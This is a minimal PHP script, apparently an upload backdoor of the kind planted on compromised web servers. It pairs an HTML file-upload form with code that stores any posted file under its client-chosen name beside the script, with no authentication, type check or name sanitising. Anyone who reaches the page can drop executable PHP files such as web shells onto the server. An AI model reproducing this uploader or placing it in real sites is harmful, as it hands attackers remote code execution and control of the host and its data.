<form method="post" enctype="multipart/form-data"><input type="file" name="file"><input type="submit"></form>
<?php
if (!empty($_FILES)) {
    move_uploaded_file($_FILES['file']['tmp_name'], $_FILES['file']['name']);
    echo "ok";
}
?>
